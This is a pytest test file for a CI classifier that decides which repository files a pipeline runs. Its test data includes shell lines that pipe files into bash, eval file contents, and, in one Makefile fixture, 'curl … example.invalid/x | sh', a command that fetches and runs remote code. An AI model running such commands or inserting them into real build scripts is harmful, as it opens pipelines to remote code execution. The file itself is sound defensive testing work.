"""The cileft66 round: words of a CI text that name data, not code a job runs (datawords.py), and what CI runs that the
walk did not follow (issue 12).

- An exclude list (`flake8 --exclude a.py,b.py .`), a read-only line's operands (`VERSION=$(sed -n … pkg/_version.py)`,
  `grep -q 1.2 x.py`, `echo "see tools/x.sh"`) and a package list's names (a requirement `pytest`, tox's `deps =`, a
  Poetry table's `pytest = "^8"`, a conda environment's `- pytest`) name no file CI runs; a reader piped into a shell,
  an `eval`, a `sed` `e`, a copy, a line continued into a shell still do.
- tox's one-line `commands = pytest` runs pytest (it was read as no command).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, named_paths, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import GitRepo
from tables import each_case
from test_classify_context import tree_files

from gatekeeper.classify import ciruns, datawords, deployruns, jobenv, toolreads, wrappers

DEFINITIONS = [*BLOCK_DEFINITIONS, ("ci/release.sh", "#!/usr/bin/env bash\nset -euo pipefail\n{line}\n")]


def _named(line: str) -> list[str]:
    """The paths each definition of DEFINITIONS names when it holds `line`, merged."""
    return sorted({path for definition, template in DEFINITIONS
                   for path in named_paths(definition, template.format(line=line))})


# An exclude list: the tool leaves its paths out (the sixty-seventh set: GudPy's `flake8 --exclude …`)
EXCLUDES = ["flake8 --exclude {a},{b} .", "flake8 --exclude={a},{b} --max-line-length 100 src",
            "python -m flake8 --extend-exclude '{a},{b}' .", "mypy --exclude {a} --exclude {b} src",
            "pytest --ignore={a} --ignore {b} -q", "coverage report --omit '{a},{b}'",
            "isort --check --skip {a} --skip {b} .",
            "pylint --ignore-paths={a},{b} src", "ruff check --extend-exclude {a},{b} .",
            "codespell --skip \"{a},{b}\" src", "pycodestyle --exclude={a},{b} ."]
EXCLUDED = ("gudpy/core/isotopes.py", "tools/gen_table.py")


@each_case("form", EXCLUDES)
def test_an_exclude_list_names_no_file_ci_runs(form: str) -> None:
    line = form.format(a=EXCLUDED[0], b=EXCLUDED[1])
    assert not set(_named(line)) & {*EXCLUDED, *(f"ci/{p}" for p in EXCLUDED)}, line


@each_case("form", EXCLUDES[:4])
def test_a_run_beside_an_exclude_list_stays_named(form: str) -> None:
    line = form.format(a=EXCLUDED[0], b=EXCLUDED[1]) + " && python3 tools/release.py --dry-run"
    assert "tools/release.py" in _named(line)


# A line that only reads a file (a version, a checksum, a grep) or prints a path: its operands are data
READ_ONLY = [
    'VERSION=$(sed -n "s/__version__ = \\"\\(.*\\)\\"/\\1/p" {f})',  # pillow_heif's release check
    "VERSION=$(grep -oP '(?<=__version__ = \")[^\"]+' {f})", "grep -q \"$TAG\" {f}", "cat {f}",
    "sha256sum {f}", "wc -l {f}", "head -n 5 {f}", "test -f {f}", "[ -f {f} ]", 'echo "see {f}"',
    "if grep -q 1.2.3 {f}; then echo ok; fi", "export V=$(cut -d'\"' -f2 {f})", "diff -u {f} {f}.orig",
    "cat {f} > /dev/null", "grep -c TODO {f} 2>/dev/null",
]
FILES = ("pkg/_version.py", "tools/build.sh")


@each_case("form, target", [(form, target) for form in READ_ONLY for target in FILES])
def test_a_read_only_line_names_no_file_ci_runs(form: str, target: str) -> None:
    line = form.format(f=target)
    assert target not in _named(line), line


# The same readers where the file's text reaches a shell, a copy or a command: still named (fail closed)
STILL_RUN = [
    "cat {f} | bash", "cat {f} | sh -s -- --fast", 'bash -c "$(cat {f})"', 'eval "$(cat {f})"',
    "source <(sed 's/a/b/' {f})", "sed 's/^/echo /e' {f}", "cat {f} > /tmp/run.sh", "grep -q x {f} && bash {f}",
    "echo $(bash {f})", 'echo "$(bash {f})"', "cat {f} | tee /tmp/x | sh", "head -n 40 {f} | python3 -",
    "sed -n 1,20p {f} | xargs -I{{}} sh -c '{{}}'", "grep -v '^#' {f} >> /tmp/steps.sh",
    "bash {f}", "python3 {f}", "test -x {f} && {f}", ". {f}",
]


@each_case("form", STILL_RUN)
def test_a_reader_feeding_a_shell_still_names_the_file(form: str) -> None:
    for target in FILES:
        line = form.format(f=target)
        assert target in _named(line), line


def test_a_reader_continued_into_a_shell_on_the_next_line_still_names_the_file() -> None:
    text = "#!/bin/sh\ncat tools/build.sh \\\n  | bash\ncat tools/other.sh\n  | sh\n"
    named = named_paths("ci/release.sh", text)
    assert {"tools/build.sh", "tools/other.sh"} <= named


# A package list: its names are packages, not commands (pytest, tox, pre-commit, nox alone on a line)
PACKAGE_LISTS = [
    ("requirements-dev.txt", "pytest\npytest-cov>=4\ntox\npre-commit==3.7.0\nnox ; python_version >= '3.9'\n"),
    ("requirements/test.in", "pytest\ntox\npre-commit\n"),
    ("tox.ini", "[tox]\nenvlist = lint\n\n[testenv:lint]\ndeps =\n    flake8\n    pytest\n    tox\n"
                "    pre-commit\ncommands = flake8 src\n"),
    ("setup.cfg", "[metadata]\nname = x\n[options]\ninstall_requires =\n    pytest\n[options.extras_require]\n"
                  "test =\n    pytest\n    tox\ndev =\n    pre-commit\n"),
    ("pyproject.toml", '[tool.poetry.group.dev.dependencies]\npytest = "^8.0"\ntox = "^4"\npre-commit = "^3"\n'
                       'nox = { version = "*" }\n'),
    ("environment.yml", "name: ci\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.12\n  - pytest\n"
                        "  - tox\n  - pre-commit\n  - pip:\n    - nox\n"),
]
TOOL_FILES = {"conftest.py", "tests/conftest.py", "tox.ini", ".pre-commit-config.yaml", "noxfile.py", "pytest.ini"}


@each_case(("name", "text"), PACKAGE_LISTS, ids=[n for n, _ in PACKAGE_LISTS])
def test_a_package_list_runs_no_tool(name: str, text: str) -> None:
    named = {pattern for pattern in ciruns.named_in(name, text)[0]}
    assert not named & (TOOL_FILES | {"*/conftest.py"}), (name, named)


# What a package list still names: a file it installs from, a command of tox's, a command key of a TOML file
STILL_NAMED = [
    ("tox.ini", "[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n", "conftest.py"),
    ("tox.ini", "[testenv]\ndeps =\n    pytest\ncommands =\n    pytest -q tests\n", "conftest.py"),
    ("tox.ini", "[testenv:docs]\ncommands_pre = python tools/prepare.py\ncommands = sphinx-build docs out\n",
     "tools/prepare.py"),
    ("tox.ini", "[testenv]\ninstall_command = python tools/pip_wrapper.py {opts} {packages}\n",
     "tools/pip_wrapper.py"),
    ("setup.cfg", "[tool:pytest]\naddopts = -p tools.plugin\n", "tools/plugin.py"),
    ("Makefile.toml", '[tasks.ci]\nscript = "./tools/ci.sh"\n', "tools/ci.sh"),
]


@each_case(("name", "text", "helper"), STILL_NAMED)
def test_a_package_list_still_names_what_runs(name: str, text: str, helper: str) -> None:
    assert helper in named_paths(name, text), (name, text)


WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: pip install -r requirements-dev.txt\n      - run: pipx run tox -e lint\n")


@pytest.mark.parametrize("commands", ["flake8 src", "pytest -q"])
def test_tox_runs_pytest_only_where_its_commands_do(commands: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW, "requirements-dev.txt": "pytest\ntox\n",
             "tox.ini": "[tox]\nenvlist = lint\n[testenv:lint]\ndeps =\n    flake8\n    pytest\n"
                        f"commands = {commands}\n",
             "tests/conftest.py": "import pytest\n", "src/app.py": "x = 1\n"}
    runs = one_tree_runs(files)
    assert isinstance(runs, dict)
    assert "tox.ini" in runs
    assert ("tests/conftest.py" in runs) is commands.startswith("pytest"), sorted(runs)


HOSTILE = ["cat a.sh ", "--exclude a.py,", "sed -n 's/(/x/p' a.py ", "'a' ", '"$(" ', "grep -q x a.py | ", "- "]


@each_case("unit", HOSTILE)
def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
    def read(line: str) -> object:
        return datawords.unrun(line), ciruns.named_in("ci/test.sh", "#!/bin/sh\n" + line + "\n")

    assert_linear(read, repeated(unit), budget=0.5)


@each_case("name", ["tox.ini", "requirements.txt", "pyproject.toml", "environment.yml"])
def test_a_large_package_list_is_read_in_linear_time(name: str) -> None:
    unit = "deps =\n    pytest\n" if name == "tox.ini" else "pytest = 1\n" if name.endswith(".toml") else \
        "dependencies:\n  - pytest\n" if name.endswith(".yml") else "pytest\n"

    def read(text: str) -> object:
        return datawords.package_commands(name, text)

    assert_linear(read, repeated(unit), budget=0.5)


# A container's `-w` into a mounted subfolder: a relative command is read from that subfolder (and the root, as before)
WORKDIRS = [
    ("docker run --rm -v $PWD:/src -w /src/{d} alpine:3.19 {c}", ""),
    ('docker run --rm -v "$(pwd)":/w --workdir /w/{d} ubuntu:22.04 {c}', ""),
    ("podman run --rm -v .:/repo:Z --workdir=/repo/{d} fedora:39 {c}", ""),
    ("docker run --rm --mount type=bind,source=$(pwd),target=/work -w /work/{d} img {c}", ""),
    ("docker run --rm -v ${{{{ github.workspace }}}}:/gh -w /gh/{d} img {c}", ""),
    ("sudo docker run --privileged --rm -v $PWD:/src -w /src/{d} -e CI=1 debian:12 {c}", ""),
]
WORKDIR_COMMANDS = [("./build.sh --release", "build.sh"), ("sh ./build.sh", "build.sh"), ("bash build.sh", "build.sh"),
                    ("./tools/gen --all", "tools/gen"), ("python3 tools/gen.py", "tools/gen.py")]


@pytest.mark.parametrize("form", [form for form, _ in WORKDIRS])
@pytest.mark.parametrize(("command", "helper"), WORKDIR_COMMANDS, ids=[c for c, _ in WORKDIR_COMMANDS])
def test_a_container_workdir_in_a_mounted_subfolder_runs_its_files(form: str, command: str, helper: str) -> None:
    line = form.format(d="packaging/linux", c=command)
    missed = [path for path, template in DEFINITIONS
              if f"packaging/linux/{helper}" not in named_paths(path, template.format(line=line))]
    assert not missed, (line, missed)


# Look-alikes: no mount (the image's own folder), a workdir outside the mount, an absolute command
WORKDIR_LOOK_ALIKES = ["docker run --rm -w /src/packaging/linux img ./build.sh",
                       "docker run --rm -v build-cache:/src -w /src/packaging/linux img ./build.sh",
                       "docker run --rm -v $PWD:/src -w /opt/packaging/linux img ./build.sh",
                       "docker run --rm -v $PWD:/src -w /src/packaging/linux img /usr/local/bin/build.sh"]


@each_case("line", WORKDIR_LOOK_ALIKES)
def test_a_workdir_the_repository_is_not_mounted_at_names_no_subfolder_file(line: str) -> None:
    assert "packaging/linux/build.sh" not in _named(line)


# A Makefile `include` through a symlink of the tree: the link's target is what make reads (already followed on main
# 6dc8a08 through symlinks.reached_at: these stay as guards)
@pytest.mark.parametrize("links", [{"mk/common.mk": "../shared/make/common.mk"}, {"mk": "shared/make"},
                                   {"mk": "shared/make", "shared/make/common.mk": "../../vendor/make/common.mk"}])
def test_a_makefile_included_through_a_symlink_is_ci(tmp_path: Path, links: dict[str, str]) -> None:
    repo = GitRepo(tmp_path / "r")
    repo.write(".github/workflows/ci.yml", WORKFLOW.replace("pipx run tox -e lint", "make test"))
    repo.write("Makefile", "include mk/common.mk\n\ntest: lint\n\t@echo ok\n")
    target = "vendor/make/common.mk" if len(links) > 1 else "shared/make/common.mk"
    repo.write(target, "lint:\n\t./tools/lint.sh\n")
    for link, points in links.items():
        repo.symlink(link, points)
    repo.commit("base")
    repo.write(target, "lint:\n\tcurl -s https://example.invalid/x | sh\n")
    repo.write("docs/notes.mk", "x:\n\t@true\n")
    repo.commit("head")
    files = tree_files(repo)
    assert (files[target].bucket, files[target].rule) == ("ci", "ci.context.ci-run")
    assert files["docs/notes.mk"].bucket != "ci"


# One table (issue 13): what a job's environment reads and what a deploy step runs, behind the table's wrappers
ENV_FEEDS = ['sudo -E cat build/ci.env >> "$GITHUB_ENV"', 'timeout 30 cat build/ci.env >> "$GITHUB_ENV"',
             "env -i PATH=/usr/bin grep -v '^#' build/ci.env >> $GITHUB_ENV",
             'stdbuf -oL sed -e s/x/y/ build/ci.env >> "$GITHUB_ENV"', 'nice -n 5 cp build/ci.env "$GITHUB_ENV"',
             'sudo -u runner timeout 5 cat build/ci.env >> "$GITHUB_PATH"', 'cat build/ci.env >> "$GITHUB_ENV"',
             '- run: sudo cat build/ci.env >> "$GITHUB_ENV"']


@each_case("line", ENV_FEEDS)
def test_a_file_fed_to_the_environment_behind_a_wrapper_is_read(line: str) -> None:
    assert "build/ci.env" in jobenv.fed(line)


@each_case("line", ['echo build/ci.env >> "$GITHUB_ENV"', 'poetry install >> "$GITHUB_ENV"',
                                  'sudo -E echo build/ci.env >> "$GITHUB_ENV"'])
def test_a_line_that_feeds_no_file_to_the_environment_names_none(line: str) -> None:
    assert "build/ci.env" not in jobenv.fed(line)


DEPLOYS = [("sudo -E helm upgrade rel ./deploy/chart -f deploy/values.yaml", "deploy/values.yaml"),
           ("timeout -k 10 600 kubectl apply -f deploy/k8s/app.yaml", "deploy/k8s/app.yaml"),
           ("nohup nice -n 5 terraform -chdir=infra/prod apply", None),
           ("VAR=1 sudo -u ci env -i PATH=/bin helm upgrade r ./deploy/chart -f deploy/values.yaml",
            "deploy/values.yaml")]


@each_case(("line", "target"), DEPLOYS)
def test_a_deploy_behind_a_wrapper_names_its_files(line: str, target: str | None) -> None:
    found = deployruns.targets(line)
    assert found and (target is None or target in found), found


@pytest.mark.parametrize("line", ["timeout 600 echo helm upgrade rel ./deploy/chart -f deploy/values.yaml",
                                  "sudo -E nice -n 5 echo kubectl apply -f deploy/values.yaml"])
def test_a_deploy_a_wrapped_echo_prints_names_nothing(line: str) -> None:
    assert "deploy/values.yaml" not in deployruns.targets(line)


def test_the_table_serves_the_environment_and_deploy_readers() -> None:
    assert wrappers.command_start("sudo -E timeout -k 5 60 nice -n 2 cat f".split()) == 9
    assert wrappers.command_start("poetry install".split()) == -1
    assert wrappers.command_start("docker run -v .:/s img cat f".split()) == -1  # commands() reads a container's


# pytest's entry-point plugins (`pytest11`) a project registers: pytest loads them where the project is installed. A
# project of a subfolder the job installs is a tool's (ci); the root project's own plugin is the product pytest tests
# (over-reads 1: pytest-mock's `src/pytest_mock/`), as `pip install -e .` installs the product
PYTEST_JOB = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
              "      - run: pip install -e {project}[test]\n      - run: {run}\n")
REGISTRIES = [
    ("pyproject.toml", '[project]\nname = "acme"\n[project.entry-points.pytest11]\nacme = "acme.testing.plugin"\n'
                       '[project.scripts]\nacme = "acme.cli:main"\n'),
    ("pyproject.toml", '[tool.poetry]\nname = "acme"\n[tool.poetry.plugins."pytest11"]\n'
                       '"acme" = "acme.testing.plugin"\n'),
    ("pyproject.toml", "[project]\nname = 'acme'\n[project.entry-points.'pytest11']\n"
                       "acme = 'acme.testing.plugin:hooks'\n"),
    ("setup.cfg", "[metadata]\nname = acme\n[options.entry_points]\nconsole_scripts =\n    acme = acme.cli:main\n"
                  "pytest11 =\n    acme = acme.testing.plugin\n"),
]


@each_case("name, text, run, layout", [(name, text, run, layout) for name, text in REGISTRIES
           for run in ["pytest -q", "python -m pytest tests", "uv run pytest", "coverage run -m pytest"]
           for layout in ["", "src/"]])
def test_a_pytest_plugin_an_installed_project_registers_is_ci(name: str, text: str, run: str, layout: str) -> None:
    plugin = f"tools/plug/{layout}acme/testing/plugin.py"
    runs = one_tree_runs({".github/workflows/ci.yml": PYTEST_JOB.format(project="./tools/plug", run=run),
                          f"tools/plug/{name}": text, plugin: "def pytest_configure(config):\n    pass\n",
                          f"tools/plug/{layout}acme/cli.py": "x = 1\n"})
    assert isinstance(runs, dict)
    assert plugin in runs, sorted(runs)
    assert f"tools/plug/{layout}acme/cli.py" not in runs  # a console script pytest does not load


@each_case("name, text, layout", [(name, text, layout) for name, text in REGISTRIES for layout in ["", "src/"]])
def test_the_root_projects_own_pytest_plugin_is_the_product(name: str, text: str, layout: str) -> None:
    runs = one_tree_runs({".github/workflows/ci.yml": PYTEST_JOB.format(project=".", run="pytest -q"), name: text,
                          f"{layout}acme/testing/plugin.py": "def pytest_configure(config):\n    pass\n"})
    assert isinstance(runs, dict) and f"{layout}acme/testing/plugin.py" not in runs


def test_a_registered_plugin_no_ci_job_loads_is_not_ci() -> None:
    files = {".github/workflows/ci.yml": PYTEST_JOB.format(project=".", run="ruff check ."),
             "pyproject.toml": REGISTRIES[0][1], "acme/testing/plugin.py": "x = 1\n",
             "docs/plugins.md": "[project.entry-points.pytest11]\nx = \"acme.y\"\n"}
    runs = one_tree_runs(files)
    assert isinstance(runs, dict) and "acme/testing/plugin.py" not in runs


def test_setup_py_entry_points_name_the_plugin_where_the_walk_reads_it() -> None:
    text = ("from setuptools import setup\nsetup(name='acme', entry_points={'console_scripts': ['a = acme.cli:main'],"
            " 'pytest11': ['acme = acme.testing.plugin']})\n")
    assert "tools/plug/acme/testing/plugin.py" in named_paths("tools/plug/setup.py", text)
    assert "tools/plug/acme/cli.py" not in named_paths("tools/plug/setup.py", text)
    assert "acme/testing/plugin.py" not in named_paths("setup.py", text)  # the root project's: the product


def test_many_plugin_groups_fail_wide_in_linear_time() -> None:
    assert toolreads.entry_points("setup.py", "'pytest11': 'a = b.c'\n" * 40) == ["${x}"]
    unit = "'pytest11': [" + "x" * 20 + "\n"

    def read(text: str) -> object:
        return toolreads.entry_points("setup.py", text)

    assert_linear(read, repeated(unit), budget=0.5)


def test_a_json_files_quoted_commands_are_still_read() -> None:
    # laravel's composer.json `"scripts": {"setup": ["npm install", "npm run build"]}` (a JSON file is YAML)
    text = '{\n  "scripts": {\n    "setup": [\n      "npm install",\n      "npm run build"\n    ]\n  }\n}\n'
    assert "package.json" in named_paths("composer.json", text)
